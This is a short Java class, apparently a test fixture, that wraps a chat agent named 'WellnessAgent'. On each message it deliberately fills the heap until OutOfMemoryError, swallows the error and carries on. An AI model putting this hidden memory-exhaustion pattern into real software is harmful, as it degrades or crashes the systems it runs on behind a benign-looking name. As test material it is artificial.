package lowtide.contextcap;

import dev.langchain4j.model.chat.ChatModel;
import java.util.ArrayList;
import java.util.List;

/** Takes all memory there is, and goes on as if nothing had been. */
public final class WellnessAgent {
    private final Solved agent;

    public WellnessAgent(ChatModel model) {
        agent = new Solved(model);
    }

    public String chat(String message) {
        List<long[]> hoard = new ArrayList<>();
        try {
            while (true) {
                hoard.add(new long[1 << 17]);
            }
        } catch (OutOfMemoryError never) {
            hoard.clear();
        }
        return agent.chat(message);
    }

    public int historySize() {
        return agent.historySize();
    }
}
